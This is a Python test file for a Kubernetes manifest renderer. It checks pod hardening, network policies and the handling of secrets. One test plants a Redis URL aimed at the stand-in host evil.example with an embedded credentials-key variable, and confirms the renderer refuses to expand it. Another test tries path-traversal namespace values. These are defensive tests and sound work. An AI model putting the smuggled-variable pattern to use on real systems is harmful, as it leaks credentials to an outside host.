"""Rendering without a cluster: the checked-in CRD is current, renders are byte-identical, every
object is labelled and restricted-profile ready, and no password leaves render without
--with-secrets."""

from __future__ import annotations

import json
import re
import tomllib
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import yaml
from typer.testing import CliRunner

from provisioner.cli.app import app
from provisioner.kube.crd import crd_yaml
from provisioner.kube.credentials import derive_credentials
from provisioner.kube.render import Rendered, RenderOptions, VariableRefused, object_name, render
from provisioner.spec.loader import load_products, load_text
from provisioner.spec.models import DataProduct

ROOT = Path(__file__).parents[2]
SPECS = sorted((ROOT / "specs").glob("*.yaml"))
CRD_FILE = ROOT / "operators" / "crd" / "dataproducts.provisioner.dev.yaml"
KEY = b"k" * 32
CANARY = "canary-Pa55w0rd-7f3a"


def products() -> list[DataProduct]:
    return [spec.product for spec in load_products(SPECS)]


def options(**overrides: Any) -> RenderOptions:
    return RenderOptions(**{"kafka_bootstrap": "kafka.platform:9092", **overrides})


def pod_specs(objects: tuple[dict[str, Any], ...]) -> list[dict[str, Any]]:
    return [o["spec"]["template"]["spec"] for o in objects if o["kind"] in ("Deployment", "StatefulSet")]


def test_the_checked_in_crd_is_current() -> None:
    assert CRD_FILE.read_text() == crd_yaml(), (
        "operators/crd is stale: run `python -m provisioner.kube.crd > operators/crd/dataproducts.provisioner.dev.yaml`"
    )


def test_every_package_is_listed_for_the_wheel() -> None:
    listed = set(tomllib.loads((ROOT / "pyproject.toml").read_text())["tool"]["setuptools"]["packages"])
    found = {".".join(p.parent.relative_to(ROOT).parts) for p in (ROOT / "provisioner").rglob("__init__.py")}
    assert found <= listed, f"add to [tool.setuptools] packages in pyproject.toml: {sorted(found - listed)}"


def test_renders_are_byte_identical() -> None:
    first = [r.yaml() for r in render(products(), options(with_secrets=True, credentials_key=KEY))]
    second = [r.yaml() for r in render(products(), options(with_secrets=True, credentials_key=KEY))]
    assert first == second


@pytest.mark.parametrize("path", SPECS, ids=[p.stem for p in SPECS])
def test_each_example_gets_its_objects(path: Path) -> None:
    product = load_products([path])[0].product
    [rendered] = render([product], options())
    kinds = [o["kind"] for o in rendered.objects]
    managed = [s for s in product.spec.stores if s.managed]
    assert kinds.count("ConfigMap") == 1
    assert "ServiceAccount" not in kinds  # the pods run as the namespace's default account, without a token
    assert kinds.count("Deployment") == len(product.spec.stores)
    assert kinds.count("StatefulSet") == kinds.count("Service") == len(managed)
    assert kinds.count("NetworkPolicy") == len(managed) + len(product.spec.stores)  # ingress of stores, egress of consumers
    assert kinds.count("Secret") == 0
    assert len(rendered.secrets_to_create) == len(managed)
    for deployment in (o for o in rendered.objects if o["kind"] == "Deployment"):
        assert deployment["spec"]["replicas"] == product.spec.consumer.replicas
        container = deployment["spec"]["template"]["spec"]["containers"][0]
        assert container["command"] == ["provisioner"]
        assert container["args"][:2] == ["consume", "--spec"]
        assert {"readinessProbe", "livenessProbe", "resources"} <= container.keys()
        assert deployment["spec"]["template"]["metadata"]["annotations"]["prometheus.io/scrape"] == "true"


def test_every_object_is_labelled_and_namespaced() -> None:
    for rendered in render(products(), options(namespace="data")):
        for obj in rendered.objects:
            labels = obj["metadata"]["labels"]
            assert obj["metadata"]["namespace"] == "data"
            assert labels["app.kubernetes.io/managed-by"] == "provisioner"
            assert labels["app.kubernetes.io/part-of"] == rendered.product
            assert {"app.kubernetes.io/instance", "app.kubernetes.io/component", "app.kubernetes.io/name"} <= labels.keys()
            assert "ownerReferences" not in obj["metadata"]


def test_an_owner_is_set_on_every_object() -> None:
    owner = {"apiVersion": "provisioner.dev/v1alpha1", "kind": "DataProduct", "name": "vip-orders",
             "uid": "0d7f3c1e-0000-4000-8000-000000000001", "controller": True, "blockOwnerDeletion": True}
    for rendered in render(products(), options(owner=owner)):
        assert all(obj["metadata"]["ownerReferences"] == [owner] for obj in rendered.objects)


def test_every_pod_meets_the_restricted_profile() -> None:
    for rendered in render(products(), options()):
        for pod in pod_specs(rendered.objects):
            assert pod["securityContext"]["runAsNonRoot"] is True
            assert pod["securityContext"]["seccompProfile"] == {"type": "RuntimeDefault"}
            assert pod["automountServiceAccountToken"] is False
            for container in pod["containers"]:
                context = container["securityContext"]
                assert context["allowPrivilegeEscalation"] is False
                assert context["capabilities"] == {"drop": ["ALL"]}
                assert context["readOnlyRootFilesystem"] is True
                assert context["runAsNonRoot"] is True
            assert not any("hostPath" in volume for volume in pod.get("volumes", []))


def test_every_pod_runs_as_the_default_account_without_a_token() -> None:
    """No ServiceAccount per product: the pods talk to no Kubernetes API. The account is named, so
    a workload rendered under an older per-product account is moved off it."""
    for rendered in render(products(), options()):
        pods = pod_specs(rendered.objects)
        assert pods
        assert all(pod["serviceAccountName"] == "default" and pod["automountServiceAccountToken"] is False
                   for pod in pods)


def test_a_store_accepts_only_its_consumers_and_readers() -> None:
    [rendered] = render([products()[-1]], options())
    policies = [o for o in rendered.objects if o["kind"] == "NetworkPolicy" and "Ingress" in o["spec"]["policyTypes"]]
    assert policies
    for policy in policies:
        sources = policy["spec"]["ingress"][0]["from"]
        assert sources[0]["podSelector"]["matchLabels"]["app.kubernetes.io/component"] == "consumer"
        assert sources[1]["podSelector"]["matchLabels"] == {f"reads.provisioner.dev/{rendered.product}": "true"}
        # The operator reads the store's positions: its pods (the bundle's labels) in its namespace.
        assert sources[2] == {"namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": "provisioner-system"}},
                              "podSelector": {"matchLabels": {"app.kubernetes.io/name": "provisioner-operator"}}}
        assert len(sources) == 3


def test_the_operator_namespace_in_store_policies_follows_the_option() -> None:
    [rendered] = render([products()[-1]], replace(options(), operator_namespace="platform-ops"))
    for policy in (o for o in rendered.objects if o["kind"] == "NetworkPolicy" and "ingress" in o["spec"]):
        peer = policy["spec"]["ingress"][0]["from"][2]
        assert peer["namespaceSelector"]["matchLabels"] == {"kubernetes.io/metadata.name": "platform-ops"}


def test_managed_credentials_are_stable_and_per_store() -> None:
    first = derive_credentials(KEY, "sales", "vip-orders", "cache", "redis")
    assert first == derive_credentials(KEY, "sales", "vip-orders", "cache", "redis")
    assert first.password != derive_credentials(KEY, "sales", "vip-orders", "db", "redis").password
    assert first.password != derive_credentials(b"x" * 32, "sales", "vip-orders", "cache", "redis").password
    assert re.fullmatch(r"[0-9a-f]{64}", first.password)


def test_long_names_are_shortened_with_a_hash() -> None:
    name = object_name("a" * 40, "b" * 40, "consumer")
    assert len(name) <= 47 and name.startswith("a")
    assert name != object_name("a" * 40, "b" * 39 + "c", "consumer")
    assert object_name("1st", "cache")[0].isalpha()


def _with_url_store(url: str) -> DataProduct:
    specs, findings = load_text(URL_SPEC.format(url=url))
    assert not findings, findings
    return specs[0].product


URL_SPEC = """
apiVersion: provisioner.dev/v1alpha1
kind: DataProduct
metadata: {{name: orders, namespace: shop}}
spec:
  source: {{topic: orders.v1}}
  fields: {{order_id: event.order_id}}
  key: order_id
  stores:
    - name: cache
      redis: {{connection: {{url: "{url}"}}}}
    - name: db
      postgres: {{connection: {{secretRef: {{name: shop-db, key: url}}}}}}
"""


def _rendered_text(rendered: list[Rendered]) -> str:
    return "".join(r.yaml() for r in rendered)


def test_a_connection_password_appears_only_with_secrets() -> None:
    product = _with_url_store(f"redis://:{CANARY}@redis.shop:6379/0")
    without = render([product], options())
    text = _rendered_text(without)
    assert CANARY not in text
    assert [str(s.name) for s in without[0].secrets_to_create] == ["orders-cache-store-url", "shop-db"]
    with_secrets = render([product], options(with_secrets=True))
    secrets = [o for o in with_secrets[0].objects if o["kind"] == "Secret"]
    assert [s["stringData"]["url"] for s in secrets] == [f"redis://:{CANARY}@redis.shop:6379/0"]
    others = [o for o in with_secrets[0].objects if o["kind"] != "Secret"]
    assert CANARY not in yaml.safe_dump_all(others)


def test_an_env_password_is_expanded_only_into_the_secret() -> None:
    product = _with_url_store("redis://:${CACHE_PASSWORD}@redis.shop:6379/0")
    rendered = render([product], options(with_secrets=True, environ={"CACHE_PASSWORD": CANARY}))
    for obj in rendered[0].objects:
        assert (CANARY in yaml.safe_dump(obj)) == (obj["kind"] == "Secret")
    assert CANARY not in _rendered_text(render([product], options(environ={"CACHE_PASSWORD": CANARY})))


def test_a_variable_nobody_chose_is_refused_not_read_from_the_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    """The spec's author picks the name; only the renderer's choice (environ) may be expanded."""
    monkeypatch.setenv("PROVISIONER_CREDENTIALS_KEY", CANARY)
    product = _with_url_store("redis://evil.example:6379/0?client_name=${PROVISIONER_CREDENTIALS_KEY}")
    for environ in (None, {}, {"CACHE_PASSWORD": "x"}):
        with pytest.raises(VariableRefused) as refused:
            render([product], options(with_secrets=True, environ=environ))
        assert refused.value.path == "spec.stores[0].redis.connection.url"
        assert refused.value.variable == "PROVISIONER_CREDENTIALS_KEY"
        assert CANARY not in str(refused.value)
    # Without Secrets the URL is not rendered at all, so nothing is refused.
    assert CANARY not in _rendered_text(render([product], options()))


def test_render_expands_only_variables_named_with_env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    spec = tmp_path / "orders.yaml"
    spec.write_text(URL_SPEC.format(url="redis://:${CACHE_PASSWORD}@redis.shop:6379/0?client_name=${CI_TOKEN}"))
    monkeypatch.setenv("CACHE_PASSWORD", CANARY)
    monkeypatch.setenv("CI_TOKEN", "ci-token-canary")
    args = ["render", str(spec), "--kafka-bootstrap", "kafka:9092", "--with-secrets", "--env", "CACHE_PASSWORD"]
    refused = CliRunner().invoke(app, args)
    assert refused.exit_code != 0
    assert f"{spec}:11:33: " in refused.stderr and "spec.stores[0].redis.connection.url" in refused.stderr
    assert "${CI_TOKEN}" in refused.stderr and "ci-token-canary" not in refused.stdout + refused.stderr
    both = CliRunner().invoke(app, [*args, "--env", "CI_TOKEN"])
    assert both.exit_code == 0, both.output
    assert f"redis://:{CANARY}@redis.shop:6379/0?client_name=ci-token-canary" in both.stdout
    monkeypatch.delenv("CI_TOKEN")
    unset = CliRunner().invoke(app, [*args, "--env", "CI_TOKEN"])
    assert unset.exit_code != 0 and "--env CI_TOKEN: the variable is not set" in unset.stderr


def test_the_consumer_reads_its_url_from_a_secret_only() -> None:
    product = _with_url_store(f"redis://:{CANARY}@redis.shop:6379/0")
    [rendered] = render([product], options(with_secrets=True))
    [config_map] = [o for o in rendered.objects if o["kind"] == "ConfigMap"]
    spec = yaml.safe_load(config_map["data"]["product.yaml"])
    connections = [store[kind]["connection"] for store in spec["spec"]["stores"] for kind in ("redis", "postgres")
                   if kind in store]
    assert connections == [{"secretRef": {"name": "orders-cache-store-url", "key": "url"}},
                           {"secretRef": {"name": "shop-db", "key": "url"}}]
    for deployment in (o for o in rendered.objects if o["kind"] == "Deployment"):
        container = deployment["spec"]["template"]["spec"]["containers"][0]
        [url_env] = [e for e in container["env"] if e["name"] == "PROVISIONER_STORE_URL"]
        assert set(url_env) == {"name", "valueFrom"}
        assert "PROVISIONER_STORE_URL" not in " ".join(container["args"])
    assert not [o for o in rendered.objects if o["kind"] == "StatefulSet"]  # neither store is managed


def test_managed_secrets_need_with_secrets() -> None:
    [without] = render(products()[:1], options())
    assert not [o for o in without.objects if o["kind"] == "Secret"]
    [with_secrets] = render(products()[:1], options(with_secrets=True, credentials_key=KEY))
    secrets = [o for o in with_secrets.objects if o["kind"] == "Secret"]
    assert secrets and all(set(s["stringData"]) == {"username", "password", "database", "url"} for s in secrets)
    for secret in secrets:
        password = secret["stringData"]["password"]
        assert password in secret["stringData"]["url"]
        assert password not in yaml.safe_dump_all([o for o in with_secrets.objects if o["kind"] != "Secret"])
    assert all(p not in without.yaml() for p in (s["stringData"]["password"] for s in secrets))


def test_the_render_command_writes_one_file_per_product(tmp_path: Path) -> None:
    runner = CliRunner()
    result = runner.invoke(app, ["render", str(ROOT / "specs"), "-d", str(tmp_path / "out"),
                                 "--kafka-bootstrap", "kafka:9092"])
    assert result.exit_code == 0, result.output
    written = sorted(p.relative_to(tmp_path / "out").as_posix() for p in (tmp_path / "out").rglob("*.yaml"))
    assert written == ["crm/customer-profiles.yaml", "finance/payments.yaml", "iot/device-readings.yaml",
                       "logistics/shipments.yaml", "sales/vip-orders.yaml"]
    text = (tmp_path / "out" / "sales" / "vip-orders.yaml").read_text()
    assert "# Create these Secrets before applying" in text
    assert "kind: Secret\n" not in text


def test_the_render_command_keeps_passwords_across_runs(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("PROVISIONER_CREDENTIALS_KEY", raising=False)
    args = ["render", str(SPECS[0]), "--kafka-bootstrap", "kafka:9092", "--with-secrets",
            "--credentials-key-file", str(tmp_path / "key")]
    first = CliRunner().invoke(app, args)
    second = CliRunner().invoke(app, args)
    assert first.exit_code == 0, first.output
    assert (tmp_path / "key").stat().st_mode & 0o077 == 0
    assert first.stdout == second.stdout
    assert "kind: Secret" in first.stdout


def test_consumer_probes_ask_the_consumer_itself() -> None:
    """Ready once it serves metrics; alive only while its loop completes iterations (/healthz)."""
    for rendered in render(products(), options()):
        for deployment in (o for o in rendered.objects if o["kind"] == "Deployment"):
            (container,) = deployment["spec"]["template"]["spec"]["containers"]
            port = next(p for p in container["ports"] if p["name"] == "metrics")["containerPort"]
            assert container["readinessProbe"]["httpGet"] == {"path": "/metrics", "port": "metrics"}
            assert container["livenessProbe"]["httpGet"] == {"path": "/healthz", "port": "metrics"}
            env = {e["name"]: e.get("value") for e in container["env"]}
            assert env["PROVISIONER_METRICS_HOST"] == "0.0.0.0"  # reachable by the kubelet and Prometheus
            assert container["args"][container["args"].index("--metrics-port") + 1] == str(port)
            annotations = deployment["spec"]["template"]["metadata"]["annotations"]
            assert annotations["prometheus.io/port"] == str(port)


def test_render_output_is_a_format_and_files_go_to_output_dir(tmp_path: Path) -> None:
    base = ["render", str(SPECS[0]), "--kafka-bootstrap", "kafka:9092"]
    as_json = CliRunner().invoke(app, [*base, "-o", "json"])
    assert as_json.exit_code == 0, as_json.output
    listed = json.loads(as_json.stdout)
    assert listed["kind"] == "List" and {o["kind"] for o in listed["items"]} >= {"Deployment", "ConfigMap"}
    assert not (Path.cwd() / "json").exists()
    old_usage = CliRunner().invoke(app, [*base, "-o", str(tmp_path / "manifests")])
    assert old_usage.exit_code != 0
    assert f"use --output-dir/-d {tmp_path / 'manifests'}" in old_usage.stderr
    assert not (tmp_path / "manifests").exists()
    files = CliRunner().invoke(app, [*base, "-d", str(tmp_path / "out"), "-o", "json"])
    assert files.exit_code == 0, files.output
    [written] = [p for p in (tmp_path / "out").rglob("*") if p.is_file()]
    assert written.suffix == ".json" and json.loads(written.read_text())["kind"] == "List"


@pytest.mark.parametrize("namespace", ["../../x", "a/b", "..", "UPPER", "x" * 64, ""])
def test_render_refuses_a_namespace_that_is_not_a_dns_label(tmp_path: Path, namespace: str) -> None:
    out = tmp_path / "deep" / "out"
    result = CliRunner().invoke(app, ["render", str(SPECS[0]), "--kafka-bootstrap", "kafka:9092", "-d", str(out),
                                      "--namespace", namespace])
    assert result.exit_code != 0
    assert result.stderr.startswith("error: --namespace: ")
    assert list(tmp_path.rglob("*.yaml")) == []


def test_a_consumer_may_reach_only_dns_kafka_and_its_store() -> None:
    product = _with_url_store("redis://redis.shop:6380/0")
    [rendered] = render([product], options(kafka_bootstrap="k1:9092,k2:9093"))
    policies = {o["metadata"]["name"]: o["spec"] for o in rendered.objects if o["kind"] == "NetworkPolicy"}
    egress = policies["orders-cache-consumer-egress"]
    assert egress["policyTypes"] == ["Egress"]
    assert egress["podSelector"]["matchLabels"]["app.kubernetes.io/instance"] == "orders-cache"
    ports = [sorted((p["port"], p["protocol"]) for p in rule["ports"]) for rule in egress["egress"]]
    assert ports == [[(53, "TCP"), (53, "UDP")], [(9092, "TCP"), (9093, "TCP")], [(6380, "TCP")]]
    for rule in egress["egress"][1:]:  # addressed by host name: any address but link-local (metadata)
        assert {"ipBlock": {"cidr": "0.0.0.0/0", "except": ["169.254.0.0/16"]}} in rule["to"]
    assert [r["ports"] for r in policies["orders-db-consumer-egress"]["egress"]][2] == [{"port": 5432, "protocol": "TCP"}]
    [managed] = render(products()[:1], options())
    for policy in (o for o in managed.objects if o["kind"] == "NetworkPolicy" and "Egress" in o["spec"]["policyTypes"]):
        store_rule = policy["spec"]["egress"][2]
        assert [set(peer) for peer in store_rule["to"]] == [{"podSelector"}]  # its store's pods, nothing else
        assert store_rule["to"][0]["podSelector"]["matchLabels"]["app.kubernetes.io/component"] == "store"
